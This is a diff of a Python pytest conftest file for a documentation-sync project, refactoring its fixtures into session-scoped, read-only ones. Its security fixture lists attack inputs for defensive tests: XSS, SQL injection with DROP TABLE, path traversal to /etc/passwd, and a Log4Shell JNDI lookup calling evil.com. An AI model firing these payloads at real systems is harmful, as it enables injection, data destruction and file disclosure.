@@ -5,14 +5,22 @@ Follows pytest best practices with comprehensive test infrastructure.
 """
 
 import asyncio
+import itertools
 import logging
-import tempfile
-from collections.abc import Generator
+from collections.abc import Mapping
+from importlib.metadata import version
 from pathlib import Path
+from types import MappingProxyType
 from unittest.mock import AsyncMock, Mock
 
 import pytest
-import yaml
+
+
+# pytest-asyncio >= 0.24 selects the loop per test through the marker's
+# loop_scope; older releases use the event_loop fixture below
+_ASYNCIO_HAS_LOOP_SCOPE = tuple(
+    int(part) for part in version("pytest-asyncio").split(".")[:2]
+) >= (0, 24)
 
 
 # Session-scoped event loop for async tests
@@ -24,6 +32,21 @@ def event_loop():
     loop.close()
 
 
+def pytest_collection_modifyitems(items):
+    """Run every async test on the session event loop.
+
+    Async tests must therefore not rely on loop state left by, or hidden
+    from, other tests.
+    """
+    if not _ASYNCIO_HAS_LOOP_SCOPE:
+        return
+
+    session_loop = pytest.mark.asyncio(loop_scope="session")
+    for item in items:
+        if item.get_closest_marker("asyncio") is not None:
+            item.add_marker(session_loop, append=False)
+
+
 # Core configuration fixtures
 @pytest.fixture
 def sample_config() -> dict:
@@ -51,24 +74,44 @@ def sample_config() -> dict:
 
 
 # File system fixtures
+_temp_dir_ids = itertools.count()
+
+
+@pytest.fixture(scope="session")
+def session_tmp_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Provide a temporary root directory shared by the whole test session."""
+    return tmp_path_factory.mktemp("docsync_session")
+
+
 @pytest.fixture
-def temp_dir() -> Generator[Path, None, None]:
-    """Provide a temporary directory for test files."""
-    with tempfile.TemporaryDirectory(prefix="docsync_test_") as tmp_dir:
-        yield Path(tmp_dir)
+def temp_dir(session_tmp_root: Path) -> Path:
+    """Provide a per-test directory under the session temporary root.
+
+    Cleanup is left to pytest's basetemp retention instead of removing each
+    directory after its test.
+    """
+    path = session_tmp_root / f"test_{next(_temp_dir_ids)}"
+    path.mkdir()
+    return path
 
 
 @pytest.fixture
 def config_file(temp_dir: Path, sample_config: dict) -> Path:
     """Create a temporary config file for testing."""
+    # Imported here so collecting tests that never need YAML skips PyYAML
+    import yaml
+
+    # Use libyaml when PyYAML was built with it
+    dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
+
     config_path = temp_dir / "test_config.yaml"
     with open(config_path, "w") as f:
-        yaml.dump(sample_config, f)
+        yaml.dump(sample_config, f, Dumper=dumper)
     return config_path
 
 
 # Content fixtures
-@pytest.fixture
+@pytest.fixture(scope="session")
 def sample_markdown() -> str:
     """Provide sample markdown content for testing."""
     return """---
@@ -113,9 +156,10 @@ def sample_files(temp_dir: Path, sample_markdown: str) -> dict:
     # Create directories
     files["docs"].mkdir(exist_ok=True)
 
-    # Create files
-    files["readme"].write_text(sample_markdown)
-    (files["docs"] / "test.md").write_text(sample_markdown)
+    # Create files, encoding the shared content once
+    content = sample_markdown.encode("utf-8")
+    files["readme"].write_bytes(content)
+    (files["docs"] / "test.md").write_bytes(content)
 
     return files
 
@@ -142,40 +186,49 @@ def mock_http_session():
 
 
 # Performance testing fixtures
-@pytest.fixture
-def performance_config() -> dict:
-    """Configuration for performance testing."""
-    return {
-        "large_file_size": 1024 * 1024,  # 1MB
-        "concurrent_operations": 10,
-        "timeout_seconds": 30,
-    }
+@pytest.fixture(scope="session")
+def performance_config() -> Mapping:
+    """Configuration for performance testing (shared, read-only)."""
+    return MappingProxyType(
+        {
+            "large_file_size": 1024 * 1024,  # 1MB
+            "concurrent_operations": 10,
+            "timeout_seconds": 30,
+        },
+    )
 
 
-@pytest.fixture
-def benchmark_data():
-    """Provide benchmark data for performance tests."""
-    return {
-        "expected_sync_time": 5.0,  # seconds
-        "max_memory_usage": 100 * 1024 * 1024,  # 100MB
-        "max_cpu_usage": 80,  # percentage
-    }
+@pytest.fixture(scope="session")
+def benchmark_data() -> Mapping:
+    """Provide benchmark data for performance tests (shared, read-only)."""
+    return MappingProxyType(
+        {
+            "expected_sync_time": 5.0,  # seconds
+            "max_memory_usage": 100 * 1024 * 1024,  # 100MB
+            "max_cpu_usage": 80,  # percentage
+        },
+    )
 
 
 # Security testing fixtures
-@pytest.fixture
-def security_test_data():
-    """Provide test data for security testing."""
-    return {
-        "malicious_input": [
-            "<script>alert('xss')</script>",
-            "'; DROP TABLE users; --",
-            "../../../etc/passwd",
-            "${jndi:ldap://evil.com/a}",
-        ],
-        "large_payload": "A" * (10 * 1024 * 1024),  # 10MB
-        "special_chars": "!@#$%^&*()_+-=[]{}|;:,.<>?",
-    }
+@pytest.fixture(scope="session")
+def security_test_data() -> Mapping:
+    """Provide test data for security testing (shared, read-only).
+
+    Session-scoped so the 10MB payload is built once per run.
+    """
+    return MappingProxyType(
+        {
+            "malicious_input": (
+                "<script>alert('xss')</script>",
+                "'; DROP TABLE users; --",
+                "../../../etc/passwd",
+                "${jndi:ldap://evil.com/a}",
+            ),
+            "large_payload": "A" * (10 * 1024 * 1024),  # 10MB
+            "special_chars": "!@#$%^&*()_+-=[]{}|;:,.<>?",
+        },
+    )
 
 
 # Logger fixture